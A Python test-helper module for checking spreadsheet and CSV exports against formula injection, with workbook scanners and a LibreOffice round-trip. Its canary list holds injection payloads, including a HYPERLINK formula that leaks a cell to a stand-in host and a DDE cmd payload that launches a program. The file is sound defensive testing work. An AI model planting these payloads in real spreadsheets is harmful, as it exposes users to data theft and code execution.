"""Reading back what was written, as the programs do that people use."""

import csv
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from defusedxml.ElementTree import fromstring

needs_libreoffice = pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")

# What a spreadsheet must never run, whoever's name it is.
CANARIES = (
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＠SUM(A1)",
)


def cells(content: bytes, sheet: str | None = None) -> list[list[Any]]:
    """Every row of a sheet, the first one by default."""
    book = openpyxl.load_workbook(BytesIO(content))
    page = book[sheet] if sheet else book.worksheets[0]
    return [list(row) for row in page.iter_rows()]


def values(content: bytes, sheet: str | None = None) -> list[list[Any]]:
    return [[cell.value for cell in row] for row in cells(content, sheet)]


def csv_rows(content: bytes, encoding: str = "utf-8-sig") -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode(encoding), newline="")))


def formulas_and_hidden_parts(content: bytes) -> Iterator[str]:
    """Whatever in a workbook could run, or would be overlooked by who hands it on."""
    with zipfile.ZipFile(BytesIO(content)) as parts:
        for name in parts.namelist():
            if any(word in name.lower() for word in ("vba", "externallink", "activex", "embedding", "comment")):
                yield name
            if not name.endswith((".xml", ".rels")):
                continue
            for element in fromstring(parts.read(name)).iter():
                tag = element.tag.rpartition("}")[2]
                if tag in ("f", "definedName", "hyperlink", "ddeLink", "oleLink"):
                    yield f"{name}: {tag}"
                if element.get("hidden") in ("1", "true") or element.get("state") in ("hidden", "veryHidden"):
                    yield f"{name}: hidden {tag}"


def by_libreoffice(content: bytes, folder: Path, *, suffix: str = "xlsx") -> dict[str, list[list[str]]]:
    """Each sheet as LibreOffice shows it: text as it is, numbers by their formats; formulas would show their result."""
    file = folder / f"book.{suffix}"
    file.write_bytes(content)
    options = "44,34,76,1,,0,false,true,true,false,false,-1"
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{folder}/profile",
            "--headless",
            "--convert-to",
            f"csv:Text - txt - csv (StarCalc):{options}",
            "--outdir",
            str(folder / "out"),
            str(file),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    return {
        made.stem.removeprefix("book-"): csv_rows(made.read_bytes(), "utf-8") for made in (folder / "out").glob("*.csv")
    }
